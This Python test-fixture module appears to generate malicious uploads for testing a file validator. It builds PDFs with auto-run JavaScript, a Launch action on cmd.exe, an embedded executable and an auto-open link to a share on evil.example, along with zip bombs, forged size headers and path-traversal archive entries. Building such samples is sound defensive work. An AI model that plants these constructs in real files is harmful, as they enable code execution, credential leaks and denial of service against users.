"""Files as people upload them, and as attackers do."""

import io
import zipfile
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image

PPTX_MAIN = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
MACRO_MAIN = "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"
ODP = "application/vnd.oasis.opendocument.presentation"


def pdf(change: Callable[[pikepdf.Pdf], object] | None = None, **saving: Any) -> bytes:
    """A PDF of one page."""
    made = pikepdf.new()
    made.add_blank_page()
    if change:
        change(made)
    file = io.BytesIO()
    made.save(file, **saving)
    return file.getvalue()


def locked_pdf() -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="x", user=""))


def pdf_with_script() -> bytes:
    def add(made: pikepdf.Pdf) -> None:
        action = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
        made.Root.OpenAction = made.make_indirect(action)

    return pdf(add, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def pdf_with_launch() -> bytes:
    def add(made: pikepdf.Pdf) -> None:
        action = Dictionary(S=Name.Launch, F="cmd.exe")
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)
        made.pages[0].obj.Annots = Array([link])

    return pdf(add)


def pdf_with_attachment() -> bytes:
    def add(made: pikepdf.Pdf) -> None:
        made.attachments["a.exe"] = b"MZ"

    return pdf(add)


def archive(parts: dict[str, bytes | str], mode: int = zipfile.ZIP_DEFLATED) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", mode) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return file.getvalue()


def _path(name: str) -> str:
    """'ppt__dots__a_dot_xml' is 'ppt/../a.xml'."""
    return name.replace("__", "/").replace("_dot_", ".").replace("dots", "..")


def pptx(main: str = PPTX_MAIN, **parts: bytes | str) -> bytes:
    """Slides for PowerPoint; `parts` are named as `_path` reads them."""
    more = {_path(n): c for n, c in parts.items()}
    types = f'<Types><Override PartName="/ppt/presentation.xml" ContentType="{main}"/></Types>'
    return archive({"[Content_Types].xml": types, "ppt/presentation.xml": "<p/>", **more})


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def pptx_with_reference(kind: str, target: str) -> bytes:
    """Slides that refer to something outside."""
    entry = f'<Relationship Id="r1" Type="{RELATIONS}/{kind}" Target="{target}"'
    rels = f'<Relationships>{entry} TargetMode="External"/></Relationships>'
    return pptx(ppt__slides___rels__slide1_dot_xml_dot_rels=rels)


def pdf_of_elsewhere() -> bytes:
    """A PDF that opens another one on somebody's server."""
    share = Dictionary(S=Name.GoToE, F="\\\\evil.example\\share", D=Array([0, Name.Fit]))
    return pdf(lambda made: setattr(made.pages[0].obj, "AA", Dictionary(O=share)))


def bomb() -> bytes:
    """A small file that becomes 400 MB."""
    return pptx(ppt__media__x_dot_bin=bytes(400_000_000))


def lying_bomb() -> bytes:
    """The same with sizes that say it is small."""
    content = pptx(ppt__media__x_dot_bin=bytes(3_000_000))
    size = (3_000_000).to_bytes(4, "little")
    return content.replace(size, (10).to_bytes(4, "little"))


def odp(**parts: bytes | str) -> bytes:
    """Slides for LibreOffice."""
    more = {_path(n): c for n, c in parts.items()}
    return archive(
        {"mimetype": ODP, "content.xml": "<c/>", "META-INF/manifest.xml": "<m/>", **more}
    )


def picture(kind: str = "PNG") -> bytes:
    file = io.BytesIO()
    Image.new("RGB", (40, 30), "white").save(file, kind)
    return file.getvalue()
